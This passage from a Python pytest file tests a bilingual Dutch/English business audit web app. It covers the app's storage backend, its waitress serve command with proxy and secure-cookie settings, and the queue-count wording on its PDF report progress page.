    assert "Installatiebedrijf Smit" in html and "niveau" in html
    store = app.extensions["smaudit"].store
    assert store.dialect == "postgresql" or os.path.exists(tmp_path / "product" / "submissions.sqlite3")


def test_serve_command_runs_waitress(tmp_path, monkeypatch):
    import waitress
    from click.testing import CliRunner

    from audit.commands.serve import serve

    calls: list[tuple[Any, dict]] = []
    monkeypatch.setattr(waitress, "serve", lambda app, **kw: calls.append((app, kw)))
    args = ["--data", str(tmp_path / "d"), "--questionnaire", str(FIXTURES / "mini.yaml"), "--port", "8123"]
    result = CliRunner().invoke(serve, args)
    assert result.exit_code == 0, result.output
    app, options = calls[-1]
    assert options["host"] == "127.0.0.1" and options["port"] == 8123 and "trusted_proxy" not in options
    assert app.config["SESSION_COOKIE_SECURE"] is False
    result = CliRunner().invoke(serve, [*args, "--proxy", "10.0.0.1"])
    app, options = calls[-1]
    assert options["trusted_proxy"] == "10.0.0.1" and app.config["SESSION_COOKIE_SECURE"] is True


@pytest.mark.parametrize(("lang", "queued", "line"), [
    ("nl", 2, "Eerst wordt nog 1 ander rapport gemaakt."),
    ("nl", 4, "Eerst worden nog 3 andere rapporten gemaakt."),
    ("en", 2, "1 other report is being prepared before yours."),
    ("en", 3, "2 other reports are being prepared before yours."),
    ("en", 1, None),
])
def test_pdf_progress_page_counts_the_reports_before_yours(client, app, monkeypatch, lang, queued, line):
    token = start(client, "Slagerij Peeters", lang=lang)
    fill_all(client, app, token)
    st = app.extensions["smaudit"]
    monkeypatch.setattr(st, "render_inline", False)  # the workers have not got to it yet
    monkeypatch.setattr(st.store, "queued_count", lambda: queued)
    response = client.get(f"/s/{token}/report.pdf")
    assert response.status_code == 202
    queue = re.search(r"<p class=\"hint\" data-queue( hidden)?>([^<]*)</p>", response.data.decode())
    assert queue, "no queue line on the progress page"
    if line is None:  # only this report: the line is there for the script, but hidden and empty
        assert queue.group(1) and not queue.group(2)
    else:
        assert not queue.group(1) and unescape(queue.group(2)) == line
